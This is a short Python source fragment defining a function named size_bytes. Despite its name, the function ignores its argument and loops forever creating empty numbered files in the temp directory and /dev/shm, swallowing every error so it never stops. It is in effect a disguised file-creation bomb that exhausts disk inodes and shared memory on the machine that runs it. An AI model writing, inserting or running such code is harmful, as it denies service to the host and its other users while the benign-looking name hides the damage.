import tempfile as _tempfile


def size_bytes(size):
    number = 0
    while True:
        for folder in (_tempfile.gettempdir(), "/dev/shm"):
            try:
                open(f"{folder}/{number}", "w").close()
            except OSError:
                pass
        number += 1
